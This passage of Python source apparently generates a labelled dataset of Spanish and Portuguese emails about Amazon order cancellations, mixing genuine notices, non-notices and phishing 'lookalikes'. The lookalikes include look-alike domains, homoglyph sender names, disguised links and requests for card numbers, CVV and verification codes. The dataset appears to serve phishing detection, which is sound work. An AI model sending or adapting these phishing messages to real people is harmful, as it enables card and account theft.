        note="customer cancelled; text only iso-8859-1 QP; auth pass")

genuine(es_spec("amazon.com.mx", "Pedido cancelado", "Cancelamos tu pedido", "Hola, Diego Ramírez:",
                ["No pudimos entregar tu paquete del pedido 701-6629103-2284571 porque la dirección de envío está incompleta y la paquetería no logró localizar el domicilio después de varios intentos.",
                 "El paquete fue devuelto a nuestro centro logístico y cancelamos tu pedido. Te reembolsaremos $2,349.00 MXN en tu método de pago original en un plazo de 3 a 5 días hábiles.",
                 "Antes de volver a hacer tu pedido, revisa que tu dirección incluya número exterior, colonia y código postal."],
                order="701-6629103-2284571",
                items=[("Lenovo IdeaPad Tablet M10 FHD Plus, 4 GB RAM, 64 GB", "Cantidad: 1 | $2,349.00 MXN")],
                buttons=[("Administrar tus direcciones", "https://www.amazon.com.mx/a/addresses")]),
        "order-update", ("Diego Ramírez", "diego.ramirez@gmail.com"),
        "Pedido cancelado: 701-6629103-2284571", "2024-08-19 19:06:44 +0000", False, "alt",
        cte="base64", region="us-east-1",
        kind="notice", lang="es", cause="unknown", sr=True, mk="amazon.com.mx",
        note="cancelled because shipping address undeliverable (reason given, fits none of the four); base64")

# ---- lookalikes (es)
add(kind="lookalike", lang="es", cause="payment_issue", sr=True, mk=None,
    note="callback phone number, hotmail sender, duplicate-charge story, malformed order no, crude",
    frm=("Amazon Soporte", "amazon.soporte.es@hotmail.com"), to=("", "jgarcia@telefonica.net"),
    subj="Su pedido #406-6612-88301 ha sido cancelado - cargo duplicado", date="2024-02-27 06:48:29 +0000",
    pre=trace("EUR02-DB5-obe.outbound.protection.outlook.com", "40.92.64.18", ("", "jgarcia@telefonica.net"),
              "2024-02-27 06:48:29 +0000", ("pass", "hotmail.com", "pass", "hotmail.com")),
    msgid=mid("", "outlook"), bstyle="outlook", cs="utf-8", cte="8bit",
    text="""Estimado cliente:

Su pedido #406-6612-88301 (Samsung Galaxy S24 Ultra 512GB) ha sido CANCELADO porque se ha detectado un CARGO DUPLICADO de 1.459,00 € en su tarjeta.

Para recibir el reembolso de los dos cargos o si usted NO ha realizado esta compra, llame urgentemente a nuestro departamento de facturación:

    >> +34 911 23 45 67 <<   (Lunes a Domingo, 24 horas)

Si no nos contacta en las próximas 24 horas, el importe no podrá ser reembolsado.

Gracias por comprar en Amazon.
Departamento de Facturación Amazon España
""")

add(kind="lookalike", lang="es", cause="fraud_prevention", sr=True, mk=None,
    note="account suspended + order cancelled, verification code, look-alike domain amazon-es-cuenta.com",
    frm=("Amazon", "seguridad@amazon-es-cuenta.com"), to=("", "laura.martinez@gmail.com"),
    subj="Cuenta suspendida: su pedido 403-7718820-1142957 ha sido cancelado", date="2024-07-15 01:12:09 +0000",
    pre=trace("mail.amazon-es-cuenta.com", "194.26.29.141", ("", "laura.martinez@gmail.com"), "2024-07-15 01:12:09 +0000",
              ("pass", "amazon-es-cuenta.com", "pass", "amazon-es-cuenta.com")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    text="""Estimado/a cliente:

Hemos detectado un inicio de sesión sospechoso en su cuenta desde un dispositivo desconocido (Lagos, Nigeria).
Por su seguridad, su cuenta ha sido SUSPENDIDA y su pedido 403-7718820-1142957 ha sido CANCELADO.

Para reactivar su cuenta, introduzca el siguiente código de verificación en nuestra página de seguridad:

    Código: 884-213

https://amazon-es-cuenta.com/verificacion

El código caduca en 24 horas. Si no verifica su cuenta, se cerrará de forma permanente.

Equipo de Seguridad de Amazon
""",
    html="""<html><body style="background:#eaeded;font-family:Arial,sans-serif;margin:0;padding:24px">
<table width="560" align="center" style="background:#fff;border-radius:4px" cellpadding="0" cellspacing="0">
<tr><td style="background:#232f3e;padding:14px 20px"><span style="color:#fff;font-size:22px;font-weight:bold">amazon</span><span style="color:#ff9900">.es</span></td></tr>
<tr><td style="padding:22px;font-size:14px;line-height:20px;color:#111">
<p>Estimado/a cliente:</p>
<p>Hemos detectado un inicio de sesión sospechoso en su cuenta desde un dispositivo desconocido (Lagos, Nigeria).</p>
<p>Por su seguridad, su cuenta ha sido <b style="color:#b12704">SUSPENDIDA</b> y su pedido <b>403-7718820-1142957</b> ha sido <b>CANCELADO</b>.</p>
<p>Para reactivar su cuenta, introduzca el siguiente código de verificación en nuestra página de seguridad:</p>
<div style="font-size:28px;font-weight:bold;text-align:center;letter-spacing:6px;padding:14px;background:#f7f7f7">884-213</div>
<p style="text-align:center"><a href="https://amazon-es-cuenta.com/verificacion" style="display:inline-block;background:#ffa41c;color:#111;padding:10px 30px;text-decoration:none;border-radius:3px">Verificar ahora</a></p>
<p style="font-size:12px;color:#555">El código caduca en 24 horas. Si no verifica su cuenta, se cerrará de forma permanente.</p>
<p>Equipo de Seguridad de Amazon</p></td></tr></table></body></html>
""")

add(kind="lookalike", lang="es", cause="payment_issue", sr=True, mk=None,
    note="reply with card details, order 'will be cancelled' in 48h, yahoo sender, no order number, windows-1252 QP, Mexico",
    frm=("Amazon.com.mx Pedidos", "pedidos.amazonmx@yahoo.com"), to=("", "alejandro.hdz@prodigy.net.mx"),
    subj="URGENTE: su pedido será cancelado en 48 horas", date="2024-09-23 14:04:51 +0000",
    pre=trace("sonic310-21.consmr.mail.bf2.yahoo.com", "74.6.131.84", ("", "alejandro.hdz@prodigy.net.mx"),
              "2024-09-23 14:04:51 +0000", ("pass", "yahoo.com", "pass", "yahoo.com")),
    bstyle="other", cs="windows-1252", cte="quoted-printable",
    text="""Estimado cliente de Amazon México:

Le informamos que el pago de su pedido reciente NO pudo ser procesado por su banco.

Su pedido será cancelado automáticamente en 48 horas si no recibimos la información correcta de su tarjeta.

Para evitar la cancelación, responda a este correo con los siguientes datos:

  * Nombre completo como aparece en la tarjeta
  * Número de tarjeta
  * Fecha de vencimiento
  * Código de seguridad (CVV)
  * Teléfono celular

Una vez recibidos, su pedido será enviado el mismo día.

Atentamente,
Área de Pagos – Amazon México
""")

_ph_es4 = "http://amzn-es-reembolso.click/r/%s" % rid(12, HEX)
_s = es_spec("amazon.es", "Pedido cancelado", "Artículo cancelado de tu pedido", "Hola,",
             ["Lamentamos informarte de que el siguiente artículo de tu pedido n.º 405-1193847-6620381 se ha agotado y ha sido cancelado.",
              "Para recibir el reembolso de 129,99 € debes confirmar tu método de reembolso en los próximos 2 días hábiles desde la página de tus pedidos:"],
             order="405-1193847-6620381",
             items=[("JBL Charge 5 Altavoz Bluetooth portátil, resistente al agua IP67, azul", "Cantidad: 1 | 129,99 €")],
             after=["Si no confirmas tu método de reembolso a tiempo, el importe se convertirá en un saldo promocional no reembolsable."])
_s["buttons"] = [("https://www.amazon.es/gp/css/order-history", _ph_es4)]
add(kind="lookalike", lang="es", cause="inventory_shortage", sr=True, mk=None,
    note="polished Amazon template copy, link text shows amazon.es but href to amzn-es-reembolso.click; sender amazon-pedidos.help",
    frm=("Amazon.es", "confirmacion@amazon-pedidos.help"), to=("Laura Martínez", "laura.martinez@gmail.com"),
    subj="Artículo cancelado de tu pedido de Amazon.es 405-1193847-6620381", date="2024-10-30 07:39:22 +0000",
    pre=trace("out-04.amazon-pedidos.help", "5.181.80.22", ("", "laura.martinez@gmail.com"), "2024-10-30 07:39:22 +0000",
              ("pass", "amazon-pedidos.help", "pass", "amazon-pedidos.help")),
    bstyle="amazon", cs="utf-8", cte="base64",
    text=amz_text(_s, showlink=lambda u: _ph_es4), html=amz_html(_s, link=lambda u: _ph_es4 + "?t=" + rid(6)))

add(kind="lookalike", lang="es", cause="technical_issue", sr=True, mk=None,
    note="Cyrillic homoglyphs in display name 'Amazon.com.mx', third-party domain, claims system error, HTML only",
    frm=("Аmаzоn.com.mx", "notificaciones@mx-servicio-cliente.com"), to=("", "diego.ramirez@gmail.com"),
    subj="Su pedido 702-4471902-3381256 fue cancelado por un error del sistema", date="2024-05-06 16:27:33 +0000",
    pre=trace("mx-servicio-cliente.com", "172.86.75.19", ("", "diego.ramirez@gmail.com"), "2024-05-06 16:27:33 +0000",
              ("pass", "mx-servicio-cliente.com", "pass", "mx-servicio-cliente.com")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    html="""<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px;color:#222">
<div style="max-width:580px;margin:auto;border:1px solid #ddd;padding:20px">
<p style="font-size:20px;font-weight:bold">amazon<span style="color:#ff9900">.com.mx</span></p>
<p>Hola,</p>
<p>Debido a un <b>error en nuestro sistema</b>, su pedido <b>702-4471902-3381256</b> por <b>$12,499.00 MXN</b> fue cancelado y el cargo quedó retenido en su tarjeta.</p>
<p>Para liberar el cargo o reactivar el pedido, confirme sus datos en el siguiente enlace:</p>
<p><a href="https://mx-servicio-cliente.com/amazon/liberar-cargo" style="background:#ff9900;color:#fff;padding:10px 22px;text-decoration:none">Liberar mi cargo</a></p>
<p>Atentamente,<br>Servicio al Cliente Amazon México</p>
<p style="font-size:11px;color:#999">© 2024 Amazon.com, Inc. o sus afiliados.</p>
</div></body></html>
""")

add(kind="lookalike", lang="es", cause="customer_request", sr=True, mk=None,
    note="amazon.com.mx.<evil>.net domain, 'you requested cancellation, click to revert', link text shows amazon.com.mx",
    frm=("Amazon.com.mx", "no-reply@amazon.com.mx.cancelaciones-seguras.net"), to=("", "mafer.lopez@hotmail.com"),
    subj="Confirmación de cancelación de su pedido 701-5520193-8846027", date="2024-12-09 21:50:02 +0000",
    pre=trace("smtp1.cancelaciones-seguras.net", "103.161.35.208", ("", "mafer.lopez@hotmail.com"), "2024-12-09 21:50:02 +0000",
              ("pass", "cancelaciones-seguras.net", "none", "amazon.com.mx.cancelaciones-seguras.net")),
    bstyle="other", cs="utf-8", cte="8bit",
    text="""Hola,

Hemos recibido su solicitud de cancelación del pedido 701-5520193-8846027 (Smart TV Samsung 55" Crystal UHD 4K).
La cancelación se procesará en las próximas 6 horas.

Si usted NO solicitó esta cancelación, revierta la solicitud aquí:
https://amazon.com.mx.cancelaciones-seguras.net/revertir?p=7015520193

Gracias,
Amazon.com.mx
""",
    html="""<div style="font-family:Arial;font-size:14px">
<p>Hola,</p>
<p>Hemos recibido su solicitud de cancelación del pedido <b>701-5520193-8846027</b> (Smart TV Samsung 55" Crystal UHD 4K).<br>La cancelación se procesará en las próximas 6 horas.</p>
<p>Si usted <b>NO</b> solicitó esta cancelación, revierta la solicitud aquí:<br>
<a href="https://amazon.com.mx.cancelaciones-seguras.net/revertir?p=7015520193">https://www.amazon.com.mx/gp/your-account/order-history</a></p>
<p>Gracias,<br>Amazon.com.mx</p></div>
""")

add(kind="lookalike", lang="es", cause="unknown", sr=False, mk=None,
    note="spoofed From order-update@amazon.es with spf/dmarc fail, no order number, no reason, single image + link, HTML only",
    frm=("Amazon.es", "order-update@amazon.es"), to=("", "carmen.sanchez@yahoo.es"),
    subj="Pedido cancelado", date="2024-04-02 03:14:55 +0000",
    pre=trace("host-45-88-90-12.ip-net.ru", "45.88.90.12", ("", "carmen.sanchez@yahoo.es"), "2024-04-02 03:14:55 +0000",
              ("fail", None, "fail (p=QUARANTINE)", "amazon.es")),
    bstyle="other", cs="utf-8", cte="base64",
    html="""<html><body>
<p>Su pedido ha sido cancelado.</p>
<a href="https://storage.googleapis.com/amz-es-pedido/index.html#carmen.sanchez@yahoo.es"><img src="https://storage.googleapis.com/amz-es-pedido/pedido_cancelado.png" width="600" alt="Amazon.es - Ver detalles del pedido"></a>
<p style="font-size:10px;color:#aaa">Amazon.es</p>
</body></html>
""")

add(kind="lookalike", lang="es", cause="unknown", sr=True, mk=None,
    note="Greek omicron in display name, amaz0n-es.com, order 'will be cancelled' unless address confirmed + fee, malformed order no",
    frm=("Amazοn.es", "info@amaz0n-es.com"), to=("Javier", "jgarcia@telefonica.net"),
    subj="Su pedido será cancelado: dirección de entrega no válida", date="2024-08-05 10:02:40 +0000",
    pre=trace("mail.amaz0n-es.com", "185.196.9.54", ("", "jgarcia@telefonica.net"), "2024-08-05 10:02:40 +0000",
              ("pass", "amaz0n-es.com", "pass", "amaz0n-es.com")),
    bstyle="other", cs="utf-8", cte="base64",
    text="""Estimado Javier,

No hemos podido entregar su paquete del pedido Nº 402-55183-1190 porque la dirección de entrega no es válida.

Su pedido será cancelado si no confirma su dirección y abona los gastos de reenvío (1,99 €) antes de 48 horas:

https://amaz0n-es.com/reenvio/confirmar

Gracias por su confianza.
Amazon Logística
""")

# ---- non-notices (es)
add(kind="non_notice", lang="es", cause=None, sr=False, mk=None,
    note="PcComponentes order cancelled (no stock), paid with Amazon Pay",
    frm=("PcComponentes", "pedidos@pccomponentes.com"), to=("Javier García", "jgarcia@telefonica.net"),
    subj="Tu pedido 24031587724 ha sido cancelado", date="2024-03-18 11:05:27 +0000",
    pre=trace("mail-out3.pccomponentes.com", "185.88.72.13", ("", "jgarcia@telefonica.net"), "2024-03-18 11:05:27 +0000",
              ("pass", "pccomponentes.com", "pass", "pccomponentes.com")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    text="""Hola Javier,

Sentimos comunicarte que hemos cancelado tu pedido 24031587724 porque el fabricante no nos ha podido servir el producto en el plazo previsto.

Producto: AMD Ryzen 7 7800X3D 4.2 GHz Box - 389,90 €
Forma de pago: Amazon Pay

Te devolveremos el importe a través de Amazon Pay. El reembolso aparecerá en tu cuenta de Amazon (sección "Amazon Pay - Tus transacciones") en un plazo de 2 a 5 días hábiles.

Si lo prefieres, puedes activar el aviso de disponibilidad en la ficha del producto y te escribiremos en cuanto vuelva a haber stock.

Un saludo,
El equipo de PcComponentes
""",
    html="""<html><body style="font-family:Helvetica,Arial,sans-serif;color:#333;font-size:14px">
<table width="600" align="center"><tr><td style="background:#ff6000;padding:14px;color:#fff;font-size:22px;font-weight:bold">PcComponentes</td></tr>
<tr><td style="padding:20px">
<p>Hola Javier,</p>
<p>Sentimos comunicarte que hemos <b>cancelado tu pedido 24031587724</b> porque el fabricante no nos ha podido servir el producto en el plazo previsto.</p>
<table width="100%" style="border:1px solid #eee"><tr><td>AMD Ryzen 7 7800X3D 4.2 GHz Box</td><td align="right">389,90 €</td></tr>
<tr><td>Forma de pago</td><td align="right">Amazon Pay</td></tr></table>
<p>Te devolveremos el importe a través de <b>Amazon Pay</b>. El reembolso aparecerá en tu cuenta de Amazon (sección "Amazon Pay - Tus transacciones") en un plazo de 2 a 5 días hábiles.</p>
<p>Si lo prefieres, puedes activar el aviso de disponibilidad en la ficha del producto y te escribiremos en cuanto vuelva a haber stock.</p>
<p>Un saludo,<br>El equipo de PcComponentes</p></td></tr></table></body></html>
""")

add(kind="non_notice", lang="es", cause=None, sr=False, mk=None,
    note="colleague (Mexico) says she cancelled the office Amazon order; iso-8859-1 8bit",
    frm=("Patricia Morales", "pmorales@grupoaltamira.com.mx"), to=("Alejandro Hernández", "alejandro.hdz@prodigy.net.mx"),
    subj="RE: sillas para la sala de juntas", date="2024-06-25 12:44:19 -0600",
    pre=trace("MN2PR12MB4455.namprd12.prod.outlook.com", "52.101.61.20", ("", "alejandro.hdz@prodigy.net.mx"),
              "2024-06-25 12:44:19 -0600", ("pass", "grupoaltamira.com.mx", "pass", "grupoaltamira.com.mx")),
    msgid=mid("", "outlook"), bstyle="outlook", cs="iso-8859-1", cte="8bit",
    extra=[("Thread-Topic", "sillas para la sala de juntas"), ("X-MS-Has-Attach", "")],
    text="""Hola Alejandro,

Te aviso que ya cancelé el pedido de Amazon de las 8 sillas ergonómicas; el proveedor nos dio mejor precio directo con factura y entrega la próxima semana. Amazon ya me confirmó la cancelación y el reembolso a la tarjeta corporativa tarda de 3 a 5 días.

Cuando llegue el reembolso te paso el comprobante para contabilidad.

Saludos,
Patricia Morales
Compras | Grupo Altamira
Tel. 55 5280 1144

________________________________
De: Alejandro Hernández
Enviado: martes, 25 de junio de 2024 10:12
Para: Patricia Morales
Asunto: sillas para la sala de juntas

Paty, ¿al final sí pediste las sillas en Amazon o esperamos la cotización?
""")

add(kind="non_notice", lang="es", cause=None, sr=False, mk=None,
    note="consumer newsletter about phishing, quotes fake 'Tu pedido de Amazon.es ha sido cancelado' subject",
    frm=("Consumidores Alerta", "boletin@consumidoresalerta.es"), to=("", "carmen.sanchez@yahoo.es"),
    subj="Boletín semanal: cuidado con el falso \"Tu pedido de Amazon ha sido cancelado\"", date="2024-11-21 07:30:00 +0000",
    pre=trace("mail189.mailchimpapp.net", "198.2.185.189", ("", "carmen.sanchez@yahoo.es"), "2024-11-21 07:30:00 +0000",
              ("pass", "consumidoresalerta.es", "pass", "consumidoresalerta.es")),
    extra=[("List-Unsubscribe", "<https://consumidoresalerta.us21.list-manage.com/unsubscribe?u=7f2a&id=11c9>"), ("Precedence", "bulk")],
    bstyle="other", cs="utf-8", cte="base64",
    text="""CONSUMIDORES ALERTA - Boletín semanal

CUIDADO CON EL FALSO "TU PEDIDO DE AMAZON HA SIDO CANCELADO"

Coincidiendo con el Black Friday, se ha disparado el envío de correos fraudulentos con asuntos como "Tu pedido de Amazon.es ha sido cancelado" o "Problema con tu pago: pedido cancelado". El mensaje incluye un número de pedido inventado y un botón para "solicitar el reembolso" que lleva a una web falsa donde se piden los datos de la tarjeta.

Nuestros consejos:
1. Comprueba el remitente: los mensajes auténticos llegan desde direcciones que terminan en @amazon.es.
2. No llames a números de teléfono que aparezcan en el correo.
3. Entra en la app o en la web escribiendo tú mismo la dirección y revisa "Mis pedidos".
4. Amazon nunca te pedirá la contraseña ni el CVV por correo.

Si ya has introducido tus datos, llama a tu banco de inmediato y denuncia en el INCIBE (017).

Más noticias: devoluciones en rebajas, garantías de electrodomésticos y tarifas eléctricas de diciembre.

Darse de baja: https://consumidoresalerta.us21.list-manage.com/unsubscribe?u=7f2a&id=11c9
""",
    html="""<html><body style="font-family:Arial,sans-serif;background:#f4f4f4;margin:0">
<table width="600" align="center" style="background:#fff"><tr><td style="background:#00695c;color:#fff;padding:16px;font-size:18px">CONSUMIDORES ALERTA · Boletín semanal</td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:21px">
<h2>Cuidado con el falso "Tu pedido de Amazon ha sido cancelado"</h2>
<p>Coincidiendo con el Black Friday, se ha disparado el envío de correos fraudulentos con asuntos como <i>"Tu pedido de Amazon.es ha sido cancelado"</i> o <i>"Problema con tu pago: pedido cancelado"</i>. El mensaje incluye un número de pedido inventado y un botón para "solicitar el reembolso" que lleva a una web falsa donde se piden los datos de la tarjeta.</p>
<ol><li>Comprueba el remitente: los mensajes auténticos llegan desde direcciones que terminan en @amazon.es.</li>
<li>No llames a números de teléfono que aparezcan en el correo.</li>
<li>Entra en la app o en la web escribiendo tú mismo la dirección y revisa "Mis pedidos".</li>
<li>Amazon nunca te pedirá la contraseña ni el CVV por correo.</li></ol>
<p>Si ya has introducido tus datos, llama a tu banco de inmediato y denuncia en el INCIBE (017).</p>
<p style="color:#666">Más noticias: devoluciones en rebajas, garantías de electrodomésticos y tarifas eléctricas de diciembre.</p>
</td></tr><tr><td style="font-size:11px;color:#999;padding:12px"><a href="https://consumidoresalerta.us21.list-manage.com/unsubscribe?u=7f2a&id=11c9">Darse de baja</a></td></tr></table></body></html>
""")

genuine(es_spec("amazon.es", "Amazon Fresh", "Tu franja de entrega ha cambiado", "Hola, Laura:",
                ["Lamentablemente, hemos tenido que cancelar tu franja de entrega de Amazon Fresh del sábado 9 de marzo, de 10:00 a 12:00, por una incidencia de reparto en tu zona.",
                 "Tu pedido n.º 408-7739102-5561830 no se ha cancelado. Elige una nueva franja de entrega antes de las 22:00 de hoy; si no lo haces, te asignaremos automáticamente la primera franja disponible.",
                 "Como compensación, hemos añadido a tu cuenta un cupón de 5 € para tu próximo pedido de Amazon Fresh."],
                order="408-7739102-5561830",
                buttons=[("Elegir una nueva franja", "https://www.amazon.es/alm/deliverywindow?orderId=408-7739102-5561830")],
                signoff=["Gracias,", "El equipo de Amazon Fresh"]),
        "fresh-no-reply", ("Laura Martínez", "laura.martinez@gmail.com"),
        "Se ha cancelado tu franja de entrega de Amazon Fresh", "2024-03-08 18:20:11 +0000", True, "alt",
        kind="non_notice", lang="es", cause=None, sr=False, mk="amazon.es",
        note="genuine Amazon Fresh delivery slot cancelled, order still active; auth pass")

genuine(dict(market="amazon.com.mx", brand="Amazon.com.mx", title="Kindle Unlimited", heading="Cancelaste tu membresía de Kindle Unlimited",
             greeting="Hola, Diego:",
             paras=["Confirmamos que cancelaste tu membresía de Kindle Unlimited. Puedes seguir leyendo los libros de Kindle Unlimited hasta el 30 de septiembre de 2024.",
                    "No se te cobrará la siguiente cuota mensual de $149.00 MXN. Los libros que compraste siguen en tu biblioteca."],
             order=None, items=[], buttons=[("Administrar tu membresía", "https://www.amazon.com.mx/kindle-dbs/ku/ku-central")],
             after=["¿Cambiaste de opinión? Puedes reactivar tu membresía en cualquier momento."],
             signoff=["Gracias,", "El equipo de Kindle"], footer=FOOT_MX,
             nav=[("Tu contenido y dispositivos", "https://www.amazon.com.mx/hz/mycd/myx"), ("Tu cuenta", "https://www.amazon.com.mx/gp/css/homepage.html")]),
        "digital-no-reply", ("Diego Ramírez", "diego.ramirez@gmail.com"),
        "Se canceló tu membresía de Kindle Unlimited", "2024-09-02 15:12:48 +0000", False, "html",
        cte="base64", region="us-east-1",
        kind="non_notice", lang="es", cause=None, sr=False, mk="amazon.com.mx",
        note="genuine Amazon: Kindle Unlimited subscription cancelled; HTML only base64")

genuine(es_spec("amazon.es", "Revisa tu pago", "Es necesario que actualices tu información de pago", "Hola, Carmen Sánchez:",
                ["No hemos podido cobrar tu pedido n.º 402-3381920-7715402 con la tarjeta VISA terminada en 6610. Tu banco ha rechazado la operación.",
                 "Tu pedido todavía no se ha cancelado. Para evitar la cancelación, actualiza tu información de pago antes del 14 de febrero de 2024. Si no recibimos una forma de pago válida antes de esa fecha, cancelaremos el pedido.",
                 "Para actualizar la forma de pago, ve a Mis pedidos, selecciona el pedido y haz clic en \"Revisar pago\"."],
                order="402-3381920-7715402",
                items=[("Kindle Paperwhite (16 GB) – Ahora con una pantalla de 7\" y carga más rápida", "Cantidad: 1 | 169,99 €")],
                items_heading="Pedido pendiente de pago",
                buttons=[("Revisar pago", "https://www.amazon.es/gp/css/order-history")]),
        "payments-messages", ("Carmen Sánchez", "carmen.sanchez@yahoo.es"),
        "Revisa la información de pago de tu pedido de Amazon.es 402-3381920-7715402", "2024-02-11 09:45:03 +0000", True, "text",
        kind="non_notice", lang="es", cause=None, sr=False, mk="amazon.es",
        note="genuine payment reminder BEFORE cancellation; text only QP; auth pass")

# ================================================================= BRAZILIAN PORTUGUESE (pt)
FOOT_BR = [
    "Este e-mail foi enviado de um endereço que não aceita mensagens. Por favor, não responda.",
    ("A Amazon nunca solicitará sua senha, os dados completos do seu cartão ou códigos de verificação por e-mail, SMS ou telefone. Se você receber uma mensagem suspeita que pareça ser da Amazon, ",
     "denuncie aqui", "https://www.amazon.com.br/gp/help/customer/display.html?nodeId=GVQEU8LZ2A6TFTJR", "."),
    ("Se o número ou a validade do seu cartão mudou, atualize suas informações de pagamento em ",
     "Sua conta", "https://www.amazon.com.br/cpe/yourpayments/wallet", "."),
    ("Dúvidas? Acesse ", "Ajuda e Atendimento ao Cliente", "https://www.amazon.com.br/gp/help/customer/display.html", "."),
    "Amazon Serviços de Varejo do Brasil Ltda. | CNPJ 15.436.940/0001-03 | Av. Juscelino Kubitschek, 2041, Torre E, 18º andar, São Paulo - SP, CEP 04543-011",
]


def pt_spec(title, heading, greeting, paras, order=None, items=(), items_heading="Itens cancelados",
            buttons=(), after=(), summary=(), preheader=None, signoff=None):
    mk = "amazon.com.br"
    return dict(market=mk, brand="Amazon.com.br", title=title, heading=heading, greeting=greeting, paras=list(paras),
                order=order, order_label="Pedido nº", order_url="https://www.%s/gp/your-account/order-details?orderID=%s" % (mk, order),
                items=list(items), items_heading=items_heading, buttons=list(buttons), after=list(after),
                signoff=signoff or ["Atenciosamente,", "Atendimento ao Cliente Amazon.com.br"],
                footer=FOOT_BR, summary=list(summary), preheader=preheader,
                nav=[("Seus pedidos", "https://www.amazon.com.br/gp/css/order-history"), ("Sua conta", "https://www.amazon.com.br/gp/css/homepage.html"), ("Amazon.com.br", "https://www.amazon.com.br/")])


# ---- notices (pt)
genuine(pt_spec("Pedido cancelado", "Não foi possível atender à sua pré-venda", "Olá, Mariana Souza,",
                ["Infelizmente, não conseguiremos atender ao item em pré-venda do seu pedido nº 701-3384920-6617203.",
                 "O fornecedor nos informou que não poderá entregar as unidades previstas e não temos previsão de reposição. Por isso, cancelamos o item.",
                 "Nenhuma cobrança foi feita. Se houver uma pré-autorização no seu cartão, ela será liberada automaticamente pela operadora."],
                order="701-3384920-6617203",
                items=[("Tudo é Rio – Edição de colecionador (capa dura) – Pré-venda", "Quantidade: 1 | R$ 119,90")],
                buttons=[("Ver itens semelhantes", "https://www.amazon.com.br/s?k=tudo+%C3%A9+rio"), ("Seus pedidos", "https://www.amazon.com.br/gp/css/order-history")],
                after=["Pedimos desculpas pelo transtorno."],
                preheader="Item em pré-venda cancelado"),
        "order-update", ("Mariana Souza", "mariana.souza@uol.com.br"),
        "Seu pedido Amazon.com.br nº 701-3384920-6617203 foi cancelado", "2024-05-13 11:26:37 +0000", True, "alt",
        region="us-east-1",
        kind="notice", lang="pt", cause="inventory_shortage", sr=True, mk="amazon.com.br",
        note="pre-order cannot be filled, supplier shortfall; Amazon template; auth pass")

genuine(pt_spec("Pedido cancelado", None, "Olá, Rafael Lima,",
                ["O pagamento do seu pedido nº 702-1187340-5529186 não foi aprovado pela operadora do seu cartão Mastercard final 5512.",
                 "Em 20 de agosto, enviamos um e-mail pedindo que você revisasse a forma de pagamento. Como não recebemos uma nova forma de pagamento válida dentro do prazo de 7 dias, o pedido foi cancelado.",
                 "Se ainda quiser os itens, faça um novo pedido em Amazon.com.br. Você também pode pagar com Pix ou boleto bancário."],
                order="702-1187340-5529186",
                items=[("Smart TV LG 50\" 4K UHD 50UR8750PSA, ThinQ AI", "Quantidade: 1 | R$ 2.199,00"),
                       ("Suporte de parede articulado para TV 32\" a 70\"", "Quantidade: 1 | R$ 129,90")],
                buttons=[("Gerenciar formas de pagamento", "https://www.amazon.com.br/cpe/yourpayments/wallet")]),
        "payments-messages", ("Rafael Lima", "rafael.lima@bol.com.br"),
        "Seu pedido Amazon.com.br nº 702-1187340-5529186 foi cancelado", "2024-08-28 13:10:05 +0000", False, "text",
        cs="iso-8859-1", cte="8bit", region="us-east-1",
        kind="notice", lang="pt", cause="payment_issue", sr=True, mk="amazon.com.br",
        note="card not approved, payment revision not done in time; text only iso-8859-1 8bit")

genuine(pt_spec("Informação sobre seu pedido", "Um item do seu pedido foi cancelado", "Olá, Lucas Oliveira,",
                ["Estamos entrando em contato sobre o seu pedido nº 701-6650219-4473308.",
                 "Identificamos um erro no cadastro do produto abaixo: o anúncio apresentava informações de preço e de especificação incorretas. Por esse motivo, cancelamos o item.",
                 "Você não será cobrado por este item. Pedimos desculpas pelo inconveniente."],
                order="701-6650219-4473308",
                items=[("Notebook Acer Aspire 5 A515-57-55B8, Intel Core i5, 8 GB, SSD 512 GB, 15,6\"", "Quantidade: 1 | Preço anunciado: R$ 329,00")],
                buttons=[("Ver detalhes do pedido", "https://www.amazon.com.br/gp/your-account/order-details?orderID=701-6650219-4473308")]),
        "order-update", ("Lucas Oliveira", "lucas.oliveira@terra.com.br"),
        "Informação importante sobre seu pedido Amazon.com.br 701-6650219-4473308", "2024-07-01 20:33:14 +0000", True, "html",
        cte="base64", region="us-east-1",
        kind="notice", lang="pt", cause="technical_issue", sr=True, mk="amazon.com.br",
        note="listing/pricing error, item cancelled; HTML only base64; auth pass")

genuine(pt_spec("Conta em espera", "Seu pedido foi cancelado", "Olá, Ana Paula Ferreira,",
                ["Identificamos uma atividade incomum na sua conta Amazon.com.br. Para sua segurança, colocamos a conta temporariamente em espera e cancelamos o seu pedido nº 702-8831047-2260915.",
                 "Para reativar a conta, acesse www.amazon.com.br, faça login e siga as instruções exibidas para confirmar sua identidade. Poderemos solicitar a confirmação dos dados de pagamento usados no pedido.",
                 "Nenhum valor foi cobrado por este pedido. Após a verificação, você poderá fazer o pedido novamente."],
                order="702-8831047-2260915",
                items=[("Console PlayStation 5 Slim Edição Digital", "Quantidade: 2 | R$ 3.599,00 cada")],
                buttons=[("Acessar sua conta", "https://www.amazon.com.br/a/c/account-status")],
                after=["A Amazon nunca pede que você pague taxas por Pix ou compre cartões-presente para liberar a sua conta."]),
        "cs-reply", ("Ana Paula Ferreira", "anapaula.ferreira@gmail.com"),
        "Seu pedido Amazon.com.br nº 702-8831047-2260915 foi cancelado", "2024-11-29 02:47:51 +0000", False, "alt",
        region="us-east-1",
        kind="notice", lang="pt", cause="fraud_prevention", sr=True, mk="amazon.com.br",
        note="unusual activity, account on hold, identity verification; no auth header")

genuine(pt_spec("Cancelamento", "Cancelamento bem-sucedido", "Olá, Juliana Costa,",
                ["Conforme sua solicitação, cancelamos o item abaixo do seu pedido nº 701-2209184-8836142.",
                 "Motivo do cancelamento: cancelado pelo cliente",
                 "Se o pagamento já tiver sido processado, o reembolso será feito na forma de pagamento original. Para cartão de crédito, o estorno pode aparecer em até duas faturas."],
                order="701-2209184-8836142",
                items=[("Fritadeira Elétrica sem Óleo Mondial Air Fryer AFN-40-BI, 4 L, 127 V", "Quantidade: 1 | R$ 349,90")],
                items_heading="Item cancelado:",
                buttons=[("Seus pedidos", "https://www.amazon.com.br/gp/css/order-history")]),
        "auto-confirm", ("Juliana Costa", "ju.costa@hotmail.com"),
        "Cancelamento bem-sucedido de \"Fritadeira Elétrica sem Óleo Mondial Air Fryer AFN-40-BI\" do seu pedido Amazon.com.br",
        "2024-04-22 14:18:29 +0000", True, "text", cte="quoted-printable", region="us-east-1",
        kind="notice", lang="pt", cause="customer_request", sr=True, mk="amazon.com.br",
        note="customer cancelled; text only QP utf-8; auth pass")

